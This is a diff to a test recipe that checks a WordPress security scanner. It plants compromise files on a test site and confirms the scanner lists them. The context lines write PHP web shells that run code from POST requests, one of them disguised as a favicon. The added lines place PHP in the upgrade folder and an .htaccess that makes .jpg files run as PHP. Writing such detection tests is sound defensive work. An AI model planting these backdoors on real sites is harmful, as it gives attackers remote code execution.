@@ -52,6 +52,8 @@ const PLANTED = {
     `${SITE.root}/wp-content/uploads/2026/11/favicon.ico`,
     `${SITE.root}/.maintenance`,
     `${SITE.root}/wp-content/languages/en_US.l10n.php`,
+    `${SITE.root}/wp-content/upgrade/wp-tmp.php`,
+    '/var/www/example.com/.htaccess',
   ],
   /** Warnings of core verify-checksums --include-root. */
   core: [
@@ -90,6 +92,8 @@ printf '\\n// planted in a plugin\\n' >> wp-content/plugins/${PLUGIN}/${PLUGIN}.
 echo '<?php @eval($_POST["c"] ?? "");' > cache.php
 printf 'GIF89a<?= @eval($_POST["i"] ?? "") ?>' > wp-content/uploads/2026/11/favicon.ico
 echo '<?php // planted: core requires .maintenance on every load' > .maintenance
+mkdir -p wp-content/upgrade && echo '<?php // planted where step 4 reinstalls nothing' > wp-content/upgrade/wp-tmp.php
+echo 'AddHandler application/x-httpd-php .jpg' > /var/www/example.com/.htaccess
 mkdir -p wp-content/languages && echo '<?php // planted: WordPress 6.5+ includes a locale.l10n.php' > wp-content/languages/en_US.l10n.php
 echo 'require: wp-content/uploads/2026/11/.thumb.phtml' > wp-cli.yml
 echo 'require: public/wp-content/uploads/2026/11/.thumb.phtml' > /var/www/example.com/wp-cli.yml
@@ -212,7 +216,7 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
     ctx.expect(
       sorted(extra) === sorted(PLANTED.listed),
       CODE_FREE_CHECKS,
-      'on the broken-into site, the code-free checks list each planted file: the dot-named must-use plugin, the link to PHP in uploads, the .phtml and the .ico holding PHP in uploads, the .user.ini, both wp-cli.yml, .maintenance and a translation .l10n.php',
+      'on the broken-into site, the code-free checks list each planted file: the dot-named must-use plugin, the link to PHP in uploads, the .phtml and the .ico holding PHP in uploads, the .user.ini, both wp-cli.yml, .maintenance, a translation .l10n.php, PHP in wp-content/upgrade and an .htaccess above the web root',
       () =>
         `the code-free checks missed ${PLANTED.listed.filter((p) => !extra.includes(p)).join(', ') || 'nothing'} and listed ${extra.filter((p) => !PLANTED.listed.includes(p)).join(', ') || 'nothing'} besides:\n${found}`,
     );
@@ -318,6 +322,21 @@ export const wordpressSecurityRecipe: Recipe = {
       ref: CODE_FREE_CHECKS,
       edit: replace(/^find -H "\$SITE" -maxdepth 1 -name \.maintenance\n.*\n/m, ''),
       expect: /the code-free checks missed \S*\.maintenance, \S*en_US\.l10n\.php/,
+    },
+    {
+      what: 'list only translations among the PHP in wp-content (the find before review r48)',
+      ref: CODE_FREE_CHECKS,
+      edit: replace(
+        /^find -H "\$SITE\/wp-content" \\\(.*$/m,
+        `find -H "$SITE/wp-content" -path "$SITE/wp-content/languages/*" -iname '*.php*'`,
+      ),
+      expect: /the code-free checks missed \S*upgrade\/wp-tmp\.php/,
+    },
+    {
+      what: 'drop .htaccess from the loop over the folders above the web root',
+      ref: CODE_FREE_CHECKS,
+      edit: replace(' "${dir%/}"/.htaccess', ''),
+      expect: /the code-free checks missed \/var\/www\/example\.com\/\.htaccess/,
     },
     {
       what: "drop wp-cli*.yml from the site's find (the loop then misses one in the web root itself)",
